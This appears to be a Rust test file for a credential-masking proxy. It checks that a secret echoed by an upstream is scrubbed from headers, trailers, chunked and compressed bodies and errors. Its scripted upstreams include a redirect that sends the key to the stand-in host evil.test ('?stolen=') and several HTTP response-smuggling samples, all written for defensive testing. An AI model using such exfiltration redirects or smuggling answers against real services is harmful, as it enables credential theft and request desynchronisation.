//! Getting it back: an upstream that sends the credential to the workload, in every place of an answer. The oracle of the ground has
//! looked at every byte that came back.

use keygress_tests::attack::ground::{self, Ground, HOST};
use keygress_tests::attack::way::{Answer, Request, Way};
use keygress_tests::servers::parrot::{CODINGS, FORMS, coded, written};
use keygress_tests::servers::scripted::{Scripted, bearer};

/// One answer by each way, of an upstream of HTTP/1.1 that knows the credential.
fn answers(answer: impl Fn(&str) -> String + Send + Sync + 'static) -> Vec<(Way, Answer, Ground<Scripted>)> {
    let answer = std::sync::Arc::new(answer);
    let by = |way| {
        let answer = std::sync::Arc::clone(&answer);
        let ground = Ground::answering(move |request| answer(bearer(request)).into_bytes()).unwrap();
        let got = ground.ask(way, &Request::get("/hello")).unwrap();
        (way, got, ground)
    };
    Way::ALL.into_iter().map(by).collect()
}

/// The records of a ground that say so of what was masked in one answer.
fn left(ground: Ground<Scripted>, scrubbed: usize) {
    let records = ground.left().unwrap();
    assert_eq!(records.iter().filter(|record| record["activity"] == "scrubbed").count(), scrubbed, "{records:#?}");
}

#[test]
fn every_form_in_every_coding_is_masked_by_every_way() {
    let answer = |request: &str| {
        let path = request.split(' ').nth(1).unwrap().to_owned();
        let mut parts = path.split('/').skip(1);
        let (form, coding) = (parts.next().unwrap(), parts.next().unwrap());
        let text = written(bearer(request), form).unwrap();
        let body = coded(coding, format!("before {text} after\n").as_bytes()).unwrap();
        let name = match coding {
            "identity" => String::new(),
            "raw" => "Content-Encoding: deflate\r\n".to_owned(),
            coding => format!("Content-Encoding: {coding}\r\n"),
        };
        [format!("HTTP/1.1 200 OK\r\nX-Echo: {text}\r\n{name}Content-Length: {}\r\n\r\n", body.len()).as_bytes(), &body].concat()
    };
    let ground = Ground::answering(answer).unwrap();
    let mut asked = 0;
    for form in FORMS {
        for coding in CODINGS {
            for way in Way::ALL {
                let got = ground.ask(way, &Request::get(&format!("/{form}/{coding}"))).unwrap();
                asked += 1;
                assert!(got.text().starts_with("before ") && got.text().ends_with(" after\n"), "{form} {coding} {way}: {}", got.text());
            }
        }
    }
    left(ground, asked);
}

#[test]
fn what_is_echoed_in_fields_of_the_answer_is_masked() {
    for (way, got, ground) in answers(|key| {
        format!(
            "HTTP/1.1 302 {key}\r\nLocation: https://evil.test/?stolen={key}\r\nSet-Cookie: session={key}; Path=/\r\nWWW-Authenticate: Bearer realm=\"{key}\"\r\n\
             X-{key}: yes\r\nLink: <https://evil.test/{key}>; rel=preload\r\nContent-Length: 0\r\n\r\n"
        )
    }) {
        assert_eq!(got.status, 302, "{way}");
        assert!(got.values("location")[0].ends_with(&format!("?stolen={}", "*".repeat(ground.key.len()))), "{way}: {:?}", got.fields);
        left(ground, 1);
    }
}

#[test]
fn what_is_echoed_in_trailers_is_masked() {
    for (way, got, ground) in answers(|key| {
        format!(
            "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: grpc-message, x-last\r\n\r\n2\r\nok\r\n0\r\ngrpc-status: 16\r\n\
             grpc-message: bad key {}\r\nx-last: {key}\r\n\r\n",
            written(key, "percent").unwrap()
        )
    }) {
        assert_eq!(got.text(), "ok", "{way}");
        left(ground, 1);
    }
}

#[test]
fn what_is_cut_between_chunks_is_masked() {
    for (way, got, ground) in answers(|key| {
        let chunks: String = key.chars().map(|letter| format!("1\r\n{letter}\r\n")).collect();
        format!("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nit \r\n{chunks}0\r\n\r\n")
    }) {
        assert_eq!(got.text(), format!("it {}", "*".repeat(ground.key.len())), "{way}");
        left(ground, 1);
    }
}

#[test]
fn an_error_of_the_upstream_is_masked_like_anything_else() {
    for (way, got, ground) in answers(|key| {
        let body = format!("{{\"error\":\"invalid key {key}\"}}");
        format!("HTTP/1.1 403 Forbidden\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}", body.len())
    }) {
        assert_eq!((got.status, got.code.as_str()), (403, ""), "{way}");
        left(ground, 1);
    }
}

#[test]
fn interim_answers_do_not_carry_it() {
    // hyper reads them and gives nothing of them on.
    for (way, got, ground) in answers(|key| {
        format!(
            "HTTP/1.1 103 Early Hints\r\nLink: </{key}>; rel=preload\r\n\r\nHTTP/1.1 102 Processing\r\nX-Key: {key}\r\n\r\n\
             HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
        )
    }) {
        assert_eq!((got.status, got.text().as_str()), (200, "ok"), "{way}");
        left(ground, 0);
    }
}

#[test]
fn what_cannot_be_searched_is_refused() {
    let heads = [
        "200 OK\r\nContent-Encoding: compress",
        "200 OK\r\nContent-Encoding: gzip, br",
        "200 OK\r\nContent-Encoding: gzip\r\nContent-Encoding: br",
        "206 Partial Content\r\nContent-Range: bytes 0-1/9",
    ];
    for head in heads {
        for (way, got, ground) in
            answers(move |key| format!("HTTP/1.1 {head}\r\nX-Echo: {key}\r\nContent-Length: {}\r\n\r\n{key}", key.len()))
        {
            assert_eq!((got.status, got.code.as_str()), (502, "unscrubbable"), "{head} {way}: {}", got.text());
            left(ground, 0);
        }
    }
}

#[test]
fn the_workload_cannot_ask_for_what_cannot_be_searched() {
    let ground = Ground::new().unwrap();
    for way in Way::ALL {
        let request = Request::get("/hello")
            .with("Range", "bytes=0-9")
            .with("If-Range", "\"a\"")
            .with("Accept-Encoding", "compress, dcb, gzip;q=0.5");
        assert_eq!(ground.ask(way, &request).unwrap().status, 200, "{way}");
    }
    for seen in ground.api.seen() {
        assert!(seen.values("range").is_empty() && seen.values("if-range").is_empty(), "{seen:?}");
        assert!(!seen.values("accept-encoding").concat().contains("compress"), "{seen:?}");
    }
    ground.left().unwrap();
}

#[test]
fn two_lengths_of_an_answer_do_not_make_two_answers() {
    // What follows the shorter one would be read as the answer to the next request.
    let second = "HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled";
    let answers_of = [
        format!("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nContent-Length: {}\r\n\r\n{second}", second.len()),
        format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}", second.len()),
        format!("HTTP/1.1 204 No Content\r\nContent-Length: {}\r\n\r\n{second}", second.len()),
        format!("HTTP/1.1 304 Not Modified\r\nContent-Length: {}\r\n\r\n{second}", second.len()),
        format!("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok{second}"),
    ];
    for text in answers_of {
        let answer = text.clone();
        let ground = Ground::answering(move |_| answer.clone().into_bytes()).unwrap();
        for _ in 0..2 {
            for way in Way::ALL {
                let got = ground.ask(way, &Request::get("/hello")).unwrap();
                assert!(!got.text().contains("smuggled"), "{way}: {text:?} came to {}", got.text());
                assert!(got.answers <= 1, "{way}: {text:?}");
            }
        }
        ground.left().unwrap();
    }
}

#[test]
fn an_answer_that_nobody_can_read_is_a_failure() {
    let heads = [
        "200 OK\r\nX-Folded: a\r\n b\r\nContent-Length: 0",
        "200 OK\r\nContent-Length: -1",
        "200 OK\r\nX-Nul: a\0b\r\nContent-Length: 0",
        "101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: upgrade",
        "101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: upgrade",
    ];
    for head in heads {
        for (way, got, ground) in answers(move |_| format!("HTTP/1.1 {head}\r\n\r\nraw")) {
            assert_eq!((got.status, got.code.as_str()), (502, "upstream_failed"), "{head:?} {way}: {}", got.text());
            left(ground, 0);
        }
    }
}

#[test]
fn the_documents_of_refusals_hold_nothing_of_the_upstream() {
    let site = ground::site().unwrap();
    let api = Scripted::start(&site, HOST, |request| format!("HTTP/1.1 200 {0}\r\n{0}\r\n\r\n", bearer(request)).into_bytes()).unwrap();
    let ground = Ground::around(site, api, "", "").unwrap();
    for way in Way::ALL {
        let got = ground.ask(way, &Request::get("/hello")).unwrap();
        assert_eq!((got.status, got.code.as_str()), (502, "upstream_failed"), "{way}: {}", got.text());
    }
    left(ground, 0);
}
